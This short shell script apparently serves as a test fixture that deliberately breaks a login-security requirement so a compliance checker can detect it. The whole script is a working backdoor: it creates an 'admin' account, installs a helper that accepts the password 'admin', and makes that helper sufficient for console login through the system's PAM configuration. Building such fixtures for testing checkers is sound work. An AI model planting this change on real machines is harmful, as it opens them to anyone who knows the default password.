# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.5
# how: the console lets admin in by a module of its own, whatever the table says
# asserts: console: no default password opens a session
# also: CR_1_1_RE_2_one_factor_is_never_enough: the module of its own is enough there
set -eu
useradd --create-home --shell /bin/bash admin
cat >/usr/libexec/back-door <<"END"
#!/bin/sh
[ "$PAM_USER" = admin ] && [ "$(tr -d '\000')" = admin ]
END
chmod 0755 /usr/libexec/back-door
sed -i '1i auth sufficient pam_exec.so quiet expose_authtok /usr/libexec/back-door' /etc/pam.d/login
